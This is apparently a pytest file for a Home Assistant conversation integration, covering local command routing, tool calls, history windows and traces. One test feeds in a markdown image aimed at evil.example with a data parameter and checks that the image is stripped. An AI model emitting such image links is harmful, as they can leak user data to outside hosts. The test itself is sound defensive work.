"""Tests for turns in a real Home Assistant: the answering agent, changes in the home, and the content of requests."""

from homeassistant.components.conversation.trace import async_get_traces
from homeassistant.core import HomeAssistant
from homeassistant.helpers import area_registry as ar
from homeassistant.helpers.intent import IntentResponseType
from homeassistant.setup import async_setup_component
import pytest

from custom_components.windowed_conversation.bridge.chat_log import get_call_tags
from custom_components.windowed_conversation.const import (
    CONF_HISTORY_TOKENS,
)
from custom_components.windowed_conversation.window import Window
from demo.model_server import Answer, ModelServer, call, thought, words

from .conftest import AGENT, SayFn, SetUpFn, get_speech
from .states import get_state


def window_of(entry) -> Window:
    """Return the window of the most recently used conversation."""
    (agent,) = entry.runtime_data.agents.values()
    return next(iter(agent.windows.loaded_windows().values()))


def said(request) -> list[str]:
    """Return the content of each message in a request."""
    return [message["content"] for message in request.body["messages"]]


async def test_local_command_is_answered_without_a_request(
    home: HomeAssistant, entry, say: SayFn, model_server: ModelServer, figure
) -> None:
    result = await say("turn on kitchen light")

    assert get_state(home, "input_boolean.kitchen").state == "on"
    assert result.response.response_type is IntentResponseType.ACTION_DONE
    assert figure("last_route") == "local"
    assert list(model_server.log.records) == []


async def test_model_knows_what_was_answered_locally(entry, say: SayFn, model_server: ModelServer) -> None:
    await say("turn on kitchen light")
    await say("my name is Ada")

    roles = [message["role"] for message in model_server.requests[-1].body["messages"]]
    assert roles == ["system", "user", "assistant", "tool", "assistant", "user"]
    assert model_server.requests[-1].violations == []


async def test_local_command_stands_in_the_history_under_the_name_that_is_offered(
    entry, say: SayFn, model_server: ModelServer
) -> None:
    await say("turn on kitchen light")
    await say("my name is Ada")

    body = model_server.requests[-1].body
    called = [each["function"]["name"] for message in body["messages"] for each in message.get("tool_calls") or ()]
    assert called == ["intent__HassTurnOn"]
    assert "intent__HassTurnOn" in [tool["function"]["name"] for tool in body["tools"]]


async def test_picture_and_link_into_home_assistant_are_not_shown(entry, say: SayFn, model_server: ModelServer) -> None:
    model_server.script(words("![It](//evil.example/p.png?d=4711) is [here](https://a.b), [confirm](/config/users)."))

    assert get_speech(await say("my name is Ada")) == "It is [here](https://a.b), confirm."


async def test_sentence_trigger_comes_before_the_model(
    home: HomeAssistant, entry, say: SayFn, model_server: ModelServer
) -> None:
    trigger = {"platform": "conversation", "command": ["open sesame"]}
    action = {"set_conversation_response": "The cave is open"}
    assert await async_setup_component(home, "automation", {"automation": {"trigger": trigger, "action": action}})

    assert get_speech(await say("open sesame")) == "The cave is open"
    assert model_server.requests == []


async def test_state_question_about_a_hidden_entity_goes_to_the_model(entry, say: SayFn, figure) -> None:
    await say("is the cellar light on?")

    assert figure("last_route") == "model"


@pytest.mark.parametrize(
    "answer", ["kitchen light", "a large one", "never mind", "what time is it", "add milk to my list"]
)
async def test_answer_to_the_models_question_goes_to_the_model(
    answer: str, entry, say: SayFn, figure, shopping
) -> None:
    result = await say("order pizza")
    assert result.continue_conversation

    await say(answer)

    assert figure("last_route") == "model"


async def test_whole_command_after_the_models_question_stays_local(entry, say: SayFn, figure) -> None:
    await say("order pizza")

    await say("turn on kitchen light")

    assert figure("last_route") == "local"


async def test_two_calls_at_once_change_the_home_twice(
    home: HomeAssistant, entry, say: SayFn, model_server: ModelServer
) -> None:
    await say("switch on the kitchen light and the hall light", agent_id=AGENT)

    assert get_state(home, "input_boolean.kitchen").state == "on"
    assert get_state(home, "input_boolean.hall").state == "on"


@pytest.mark.parametrize(("language", "success"), [("en", "Done"), ("de", "Fertig")])
async def test_model_that_acts_and_says_nothing_has_succeeded(
    home: HomeAssistant, entry, say: SayFn, model_server: ModelServer, *, language: str, success: str
) -> None:
    model_server.script(call("HassTurnOn", name="hall light"), words(""))

    result = await say("I would like the hall light switched on", language=language)

    assert get_state(home, "input_boolean.hall").state == "on"
    assert get_speech(result) == success
    assert result.response.response_type is IntentResponseType.ACTION_DONE


@pytest.mark.parametrize(
    "answer", [thought("Pizza again.") + words("I like it."), words("<think>Pizza again.</think>I like it.")]
)
async def test_thoughts_are_never_spoken(answer: Answer, entry, say: SayFn, model_server: ModelServer) -> None:
    model_server.script(answer)

    assert get_speech(await say("what do you say to pizza?")) == "I like it."


async def test_system_prompt_and_tools_stay_the_same_between_turns(
    entry, say: SayFn, model_server: ModelServer
) -> None:
    await say("my name is Ada")
    await say("what is my name?")

    first, second = (request.body for request in model_server.requests)
    assert first["messages"][0] == second["messages"][0]
    assert first["tools"] == second["tools"]
    assert [tool["function"]["name"] for tool in first["tools"]] == sorted(
        tool["function"]["name"] for tool in first["tools"]
    )


async def test_extra_system_prompt_is_kept_for_the_conversation(entry, say: SayFn, model_server: ModelServer) -> None:
    await say("my name is Ada", extra_system_prompt="The oven was just switched off.")
    await say("what is my name?")

    assert all(said(request)[0].endswith("The oven was just switched off.") for request in model_server.requests)


async def test_small_window_forgets_whole_exchanges_in_blocks(
    set_up: SetUpFn, say: SayFn, model_server: ModelServer
) -> None:
    entry = await set_up(options={CONF_HISTORY_TOKENS: 600})
    await say("my name is Ada")
    for number in range(12):
        await say(f"consider that the locker number {number} is the {number} times seventh on the left")

    assert window_of(entry).stats().evicted_messages > 0
    assert "Ada" not in get_speech(await say("what is my name?"))
    assert all(request.violations == [] for request in model_server.requests)
    assert window_of(entry).stats().current_tokens <= 600


async def test_trace_tells_route_budget_and_usage(entry, say: SayFn) -> None:
    await say("my name is Ada")

    details = [e.data for e in async_get_traces()[-1]._events if e.data and "route" in e.data]
    (detail,) = details
    assert (detail["route"], detail["reason"]) == ("model", "no_local_match")
    assert detail["budget"]["max_tokens"] == 8000
    assert detail["usage"]["input"] > 0


async def test_exchange_is_tagged_with_what_it_touched(
    home: HomeAssistant, entry, kitchen: ar.AreaEntry, say: SayFn
) -> None:
    await say("turn on kitchen light")
    await say("I would like the kitchen light switched off")

    touched = window_of(entry).stats().tag_distribution
    assert (touched["context:input_boolean"], touched["context:kitchen"]) == (2, 2)


async def test_area_and_domains_that_a_call_names_are_tagged(home: HomeAssistant, kitchen: ar.AreaEntry) -> None:
    arguments = {"area": "KITCHEN", "domain": ["light", "fan"], "name": "everything"}

    assert get_call_tags(home, arguments) == {"context:kitchen", "context:light", "context:fan"}


async def test_call_that_names_nothing_known_is_not_tagged(home: HomeAssistant) -> None:
    assert get_call_tags(home, {"area": "Atlantis", "domain": 7}) == set()
